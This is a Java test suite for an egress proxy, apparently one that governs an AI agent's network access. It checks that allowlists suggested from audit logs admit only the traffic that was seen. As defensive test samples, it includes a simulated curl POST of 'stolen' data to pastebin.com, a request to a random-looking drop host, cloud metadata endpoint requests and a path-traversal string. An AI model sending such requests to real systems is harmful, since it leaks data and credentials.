package dev.sluice.proxy.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import dev.sluice.proxy.testing.Curl;
import dev.sluice.proxy.testing.Curl.CurlResult;
import dev.sluice.proxy.testing.RecordingOrigin;
import dev.sluice.proxy.testing.SluiceFixture;
import dev.sluice.rules.decision.Decider;
import dev.sluice.rules.decision.Decision;
import dev.sluice.rules.decision.RequestInfo;
import dev.sluice.rules.decision.SelfEndpoints;
import dev.sluice.rules.decision.Verdict;
import dev.sluice.rules.policy.Extension;
import dev.sluice.rules.policy.Policy;
import dev.sluice.rules.policy.PolicyLoader;
import dev.sluice.rules.target.Target;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code sluice audit suggest} on a log that a real Sluice wrote in report mode (and then in enforce
 * mode) over real sockets: the suggestion, included by the policy, allows exactly what was seen and
 * nothing in the address classes.
 */
class AuditSuggestTest {

    private static final String TOKEN = "token-of-the-agent";

    private RecordingOrigin origin;
    private RecordingOrigin other;
    private SluiceFixture sluice;

    @TempDir
    Path work;

    @AfterEach
    void stop() throws Exception {
        if (sluice != null) {
            sluice.close();
        }
        if (origin != null) {
            origin.close();
        }
        if (other != null) {
            other.close();
        }
    }

    private record Run(int code, String out, String err) {
    }

    private static Run sluiceCli(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = SluiceCli.execute(new PrintWriter(out), new PrintWriter(err), args);
        return new Run(code, out.toString(), err.toString());
    }

    private static String sha(String token) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(token.getBytes(StandardCharsets.UTF_8)));
    }

    private String policy(String mode, String include) throws Exception {
        return """
                version: 1
                mode: %s
                extensions:
                  agent:
                    auth: { token_sha256: "%s" }
                    allow:
                      - host: known.test
                        ports: [%d]
                network:
                  allow_private: ["127.0.0.1/32"]
                  hosts:
                    known.test: 127.0.0.1
                    api.one.test: 127.0.0.1
                    tunnel.one.test: 127.0.0.1
                    a.cdn.test: 127.0.0.1
                    b.cdn.test: 127.0.0.1
                    c.cdn.test: 127.0.0.1
                    pastebin.com: 127.0.0.1
                    x7f3k9q2m8z4w1v6.drop.test: 127.0.0.1
                    metadata.one.test: 169.254.169.254
                listen:
                  proxy: 127.0.0.1:0
                %s""".formatted(mode, sha(TOKEN), origin.port(), include);
    }

    private CurlResult curl(String... args) {
        List<String> all = new ArrayList<>(List.of("-x", "http://agent:" + TOKEN + "@127.0.0.1:" + sluice.port()));
        all.addAll(List.of(args));
        return Curl.run(all);
    }

    private String url(String host, String path) {
        return "http://" + host + ":" + origin.port() + path;
    }

    @Test
    void theSuggestionAllowsExactlyWhatWasSeenAndNothingInTheAddressClasses() throws Exception {
        origin = new RecordingOrigin();
        other = new RecordingOrigin();
        sluice = SluiceFixture.start(policy("report", ""));

        // Report mode: every rule miss goes through as would_deny.
        assertThat(curl(url("api.one.test", "/v1/users/12345/repos?token=secret")).httpStatus()).isEqualTo(200);
        assertThat(curl(url("api.one.test", "/v1/users/777/repos")).httpStatus()).isEqualTo(200);
        assertThat(curl("-X", "POST", "-d", "x=1",
                url("api.one.test", "/v1/blobs/3f2a9c1e-7b4d-4e8f-9a6b-1c2d3e4f5a6b")).httpStatus()).isEqualTo(200);
        for (String h : List.of("a.cdn.test", "b.cdn.test", "c.cdn.test")) {
            assertThat(curl(url(h, "/lib.js")).httpStatus()).isEqualTo(200);
        }
        assertThat(curl("-p", url("tunnel.one.test", "/inside")).httpStatus()).isEqualTo(200); // a CONNECT tunnel
        assertThat(curl("-X", "POST", "-d", "stolen", url("pastebin.com", "/api/api_post.php")).httpStatus()).isEqualTo(200);
        assertThat(curl(url("x7f3k9q2m8z4w1v6.drop.test", "/")).httpStatus()).isEqualTo(200);
        assertThat(curl(url("known.test", "/fine")).httpStatus()).isEqualTo(200);
        // Address classes are enforced in report mode too: refused, and never suggested.
        assertThat(curl(url("metadata.one.test", "/latest/meta-data/")).httpStatus()).isEqualTo(403);
        assertThat(curl("http://169.254.169.254/latest/meta-data/").httpStatus()).isEqualTo(403);
        assertThat(curl("http://127.0.0.2:" + origin.port() + "/loop").httpStatus()).isEqualTo(403);

        // Enforce mode: a port the rule does not list is refused (port_not_allowed) and counts too.
        sluice.writePolicy(policy("enforce", ""));
        assertThat(sluice.reloader().reload()).isEqualTo(dev.sluice.proxy.server.PolicyReloader.Result.OK);
        assertThat(curl("http://known.test:" + other.port() + "/other-port").httpStatus()).isEqualTo(403);
        await().atMost(Duration.ofSeconds(10)).until(() -> sluice.audit().stream()
                .anyMatch(r -> "/other-port".equals(r.path("url.path").asText())));
        List<JsonNode> records = sluice.audit();
        assertThat(records).filteredOn(r -> r.path("decision").asText().equals("would_deny")).hasSizeGreaterThanOrEqualTo(9);
        assertThat(records).filteredOn(r -> r.path("reason").asText().startsWith("address_class")).hasSize(3);
        sluice.stop();

        Path overlay = work.resolve("suggested.yaml");
        Run run = sluiceCli("audit", "suggest", "--file", sluice.dataDir().resolve("audit.jsonl").toString(),
                "--extension", "agent", "--write", overlay.toString());
        assertThat(run.code()).as(run.err()).isZero();
        String yaml = Files.readString(overlay);
        int p = origin.port();
        assertThat(yaml).contains(
                "      - host: \"*.cdn.test\"\n        ports: [" + p + "]\n        methods: [\"GET\"]\n        paths: [\"/lib.js\"]\n",
                "      - host: \"api.one.test\"\n        ports: [" + p + "]\n        methods: [\"GET\"]\n        paths: [\"/v1/users/*/repos\"]\n",
                "      - host: \"api.one.test\"\n        ports: [" + p + "]\n        methods: [\"POST\"]\n        paths: [\"/v1/blobs/*\"]\n",
                "      - host: \"tunnel.one.test\"\n        ports: [" + p + "]\n",
                "      - host: \"known.test\"\n        ports: [" + other.port() + "]\n        methods: [\"GET\"]\n        paths: [\"/other-port\"]\n",
                "#   agent: pastebin.com (paste service (pastebin.com), 1 record)",
                "#   agent: x7f3k9q2m8z4w1v6.drop.test (random-looking label \"x7f3k9q2m8z4w1v6\"",
                "address_class=3");
        assertThat(yaml).doesNotContain("169.254", "metadata", "127.0.0.2", "host: \"pastebin.com\"", "drop.test\"\n");
        // A second --write never overwrites the overlay.
        assertThat(sluiceCli("audit", "suggest", "--file", sluice.dataDir().resolve("audit.jsonl").toString(),
                "--write", overlay.toString()).code()).isEqualTo(1);

        // Merged: the policy includes the overlay; `sluice check` accepts it.
        Path policyFile = work.resolve("policy.yaml");
        Files.writeString(policyFile, policy("enforce", "include: [suggested.yaml]\n"));
        Run check = sluiceCli("check", policyFile.toString());
        assertThat(check.code()).as(check.out() + check.err()).isZero();
        assertThat(check.out()).contains(": ok (1 extensions, 1 fragment, sha256 ", "  includes " + overlay);
        Policy merged = PolicyLoader.load(policyFile);
        Extension agent = merged.extension("agent").orElseThrow();

        // Everything seen is allowed now ...
        assertThat(visible(merged, agent, "api.one.test", p, "GET", "/v1/users/12345/repos")).isEqualTo(Verdict.ALLOW);
        assertThat(visible(merged, agent, "api.one.test", p, "GET", "/v1/users/42/repos")).isEqualTo(Verdict.ALLOW);
        assertThat(visible(merged, agent, "api.one.test", p, "POST", "/v1/blobs/3f2a9c1e-7b4d-4e8f-9a6b-1c2d3e4f5a6b"))
                .isEqualTo(Verdict.ALLOW);
        for (String h : List.of("a.cdn.test", "b.cdn.test", "c.cdn.test")) {
            assertThat(visible(merged, agent, h, p, "GET", "/lib.js")).isEqualTo(Verdict.ALLOW);
        }
        assertThat(Decider.decideTunnel(merged, agent, new Target("tunnel.one.test", p, null)).verdict())
                .isEqualTo(Verdict.ALLOW);
        assertThat(visible(merged, agent, "known.test", other.port(), "GET", "/other-port")).isEqualTo(Verdict.ALLOW);
        // ... and nothing wider: other methods, paths, ports, hosts, the cdn apex, tunnels to visible-only hosts.
        assertThat(visible(merged, agent, "api.one.test", p, "DELETE", "/v1/users/42/repos")).isEqualTo(Verdict.DENY);
        assertThat(visible(merged, agent, "api.one.test", p, "GET", "/v1/blobs/x")).isEqualTo(Verdict.DENY);
        assertThat(visible(merged, agent, "api.one.test", p, "POST", "/v1/users/42/repos")).isEqualTo(Verdict.DENY);
        assertThat(visible(merged, agent, "api.one.test", 443, "GET", "/v1/users/42/repos")).isEqualTo(Verdict.DENY);
        assertThat(Decider.decideTunnel(merged, agent, new Target("api.one.test", p, null)).verdict()).isEqualTo(Verdict.DENY);
        assertThat(visible(merged, agent, "cdn.test", p, "GET", "/lib.js")).isEqualTo(Verdict.DENY);
        assertThat(visible(merged, agent, "pastebin.com", p, "POST", "/api/api_post.php")).isEqualTo(Verdict.DENY);
        assertThat(visible(merged, agent, "x7f3k9q2m8z4w1v6.drop.test", p, "GET", "/")).isEqualTo(Verdict.DENY);
        assertThat(visible(merged, agent, "known.test", other.port(), "GET", "/elsewhere")).isEqualTo(Verdict.DENY);
        // Nothing in the address classes: the names and literals seen stay refused, by name and by address.
        assertThat(visible(merged, agent, "metadata.one.test", p, "GET", "/latest/meta-data/")).isEqualTo(Verdict.DENY);
        Target literal = new Target("169.254.169.254", 80, InetAddress.getByName("169.254.169.254"));
        assertThat(Decider.decide(merged, agent, literal, new RequestInfo("GET", "/latest/meta-data/")).verdict())
                .isEqualTo(Verdict.DENY);
        Decision byName = Decider.decide(merged, agent, new Target("a.cdn.test", p, null), new RequestInfo("GET", "/lib.js"));
        assertThat(Decider.checkAddresses(merged, byName, new Target("a.cdn.test", p, null),
                List.of(InetAddress.getByName("169.254.169.254")), new SelfEndpoints(List.of(), java.util.Set.of())).decision().verdict())
                .isEqualTo(Verdict.DENY);

        // And a real Sluice on the merged policy lets the seen traffic through in enforce mode.
        Path dir = sluice.dataDir();
        sluice.close();
        sluice = SluiceFixture.start(policy("enforce", "include: [" + overlay + "]\n"));
        assertThat(curl(url("api.one.test", "/v1/users/9/repos")).httpStatus()).isEqualTo(200);
        assertThat(curl("-p", url("tunnel.one.test", "/inside")).httpStatus()).isEqualTo(200);
        assertThat(curl(url("b.cdn.test", "/lib.js")).httpStatus()).isEqualTo(200);
        CurlResult paste = curl("-X", "POST", "-d", "stolen", url("pastebin.com", "/api/api_post.php"));
        assertThat(paste.httpStatus()).isEqualTo(403);
        assertThat(curl(url("metadata.one.test", "/latest/meta-data/")).httpStatus()).isEqualTo(403);
        assertThat(dir).isNotNull();
    }

    private static Verdict visible(Policy policy, Extension ext, String host, int port, String method, String path) {
        return Decider.decide(policy, ext, new Target(host, port, null), new RequestInfo(method, path)).verdict();
    }

    @Test
    void checkNamesTheFragmentAndLineOfAnError() throws Exception {
        Path fragment = work.resolve("overlay.yaml");
        Files.writeString(fragment, "extensions:\n  agent:\n    allow:\n      - host: \"*.\"\n");
        Path policyFile = work.resolve("policy.yaml");
        Files.writeString(policyFile, "version: 1\nextensions:\n  agent: {}\ninclude: [overlay.yaml]\n");
        Run check = sluiceCli("check", policyFile.toString());
        assertThat(check.code()).isEqualTo(1);
        assertThat(check.out()).startsWith(fragment + ":4:").contains("overlay.yaml:extensions.agent.allow[0].host", "(expected:");
    }

    @Test
    void anInterceptedTunnelGetsTheRulesOfTheRequestsInsideNotAnOpenTunnel() throws Exception {
        com.fasterxml.jackson.databind.ObjectMapper json = new com.fasterxml.jackson.databind.ObjectMapper();
        PolicySuggester suggester = new PolicySuggester(3);
        suggester.add(json.readTree("{\"extension\":\"agent\",\"http.request.method\":\"CONNECT\","
                + "\"server.address\":\"llm.test\",\"server.port\":443,\"tls.mode\":\"intercept\","
                + "\"decision\":\"would_deny\",\"reason\":\"not_allowlisted\"}"));
        suggester.add(json.readTree("{\"extension\":\"agent\",\"http.request.method\":\"POST\","
                + "\"server.address\":\"llm.test\",\"server.port\":443,\"tls.mode\":\"intercept\","
                + "\"url.path\":\"/v1/messages\",\"decision\":\"would_deny\",\"reason\":\"not_allowlisted\"}"));
        // Refusals no rule can lift, and records without an extension, are never learned from.
        suggester.add(json.readTree("{\"extension\":\"agent\",\"server.address\":\"evil.test\",\"server.port\":80,"
                + "\"decision\":\"deny\",\"reason\":\"denied_by_rule\"}"));
        suggester.add(json.readTree("{\"extension\":\"agent\",\"server.address\":\"x.test\",\"server.port\":80,"
                + "\"decision\":\"deny\",\"reason\":\"malformed_request\"}"));
        suggester.add(json.readTree("{\"server.address\":\"y.test\",\"server.port\":80,"
                + "\"decision\":\"deny\",\"reason\":\"unknown_extension\"}"));
        String yaml = PolicySuggester.toYaml(suggester.result(), "test");
        assertThat(yaml).contains("      - host: \"llm.test\"\n        ports: [443]\n        methods: [\"POST\"]\n"
                + "        paths: [\"/v1/messages\"]\n");
        assertThat(yaml).doesNotContain("evil.test", "x.test", "y.test");
        assertThat(yaml).contains("denied_by_rule=1", "malformed_request=1", "unknown_extension=1");
        Files.writeString(work.resolve("s.yaml"), yaml);
        Path policyFile = work.resolve("p.yaml");
        Files.writeString(policyFile, "version: 1\nextensions:\n  agent: {}\ninspect:\n  llm.test: { pins: tofu }\n"
                + "include: [s.yaml]\n");
        Policy merged = PolicyLoader.load(policyFile);
        Extension agent = merged.extension("agent").orElseThrow();
        // The intercepted tunnel opens (its requests are decided one by one), a blind tunnel would not.
        assertThat(Decider.decideTunnel(merged, agent, new Target("llm.test", 443, null)).verdict()).isEqualTo(Verdict.ALLOW);
        assertThat(visible(merged, agent, "llm.test", 443, "POST", "/v1/messages")).isEqualTo(Verdict.ALLOW);
        assertThat(visible(merged, agent, "llm.test", 443, "GET", "/v1/files")).isEqualTo(Verdict.DENY);
    }

    @Test
    void anUpstreamFailureNeverSuggestsARule() throws Exception {
        com.fasterxml.jackson.databind.ObjectMapper json = new com.fasterxml.jackson.databind.ObjectMapper();
        PolicySuggester suggester = new PolicySuggester(1);
        // Report mode: the policy would have denied, then the dial failed; the record says so.
        suggester.add(json.readTree("{\"extension\":\"agent\",\"decision\":\"would_deny\","
                + "\"outcome\":\"upstream_failure\",\"reason\":\"upstream_connect_failed\","
                + "\"server.address\":\"down.example.org\",\"server.port\":443,\"http.request.method\":\"CONNECT\","
                + "\"tls.mode\":\"tunnel\"}"));
        suggester.add(json.readTree("{\"extension\":\"agent\",\"decision\":\"would_deny\","
                + "\"reason\":\"not_allowlisted\",\"server.address\":\"up.example.org\",\"server.port\":443,"
                + "\"http.request.method\":\"CONNECT\",\"tls.mode\":\"tunnel\"}"));

        PolicySuggester.Suggestion result = suggester.result();
        assertThat(result.rules().get("agent")).extracting(PolicySuggester.SuggestedRule::host)
                .containsExactly("up.example.org");
        assertThat(result.considered()).isEqualTo(1);
    }

    @Test
    void idLikeSegmentsCollapseAndNamesDoNot() {
        assertThat(PolicySuggester.pathGlob("/v1/users/12345/repos?page=***")).isEqualTo("/v1/users/*/repos");
        assertThat(PolicySuggester.pathGlob("/objects/0123456789abcdef0123")).isEqualTo("/objects/*");
        assertThat(PolicySuggester.pathGlob("/t/dGhpcyBpcyBhIHRva2VuMTIz")).isEqualTo("/t/*");
        assertThat(PolicySuggester.pathGlob("/api/v2/packages/left-pad")).isEqualTo("/api/v2/packages/left-pad");
        assertThat(PolicySuggester.pathGlob("/a/../etc/passwd")).isNull();
        assertThat(PolicySuggester.randomLooking("x7f3k9q2m8z4w1v6")).isTrue();
        assertThat(PolicySuggester.randomLooking("registry")).isFalse();
        assertThat(PolicySuggester.randomLooking("objects-origin")).isFalse();
        assertThat(PolicySuggester.exfiltrationReason("abc.ngrok-free.app")).startsWith("tunnel service");
        assertThat(PolicySuggester.exfiltrationReason("api.github.com")).isNull();
    }
}
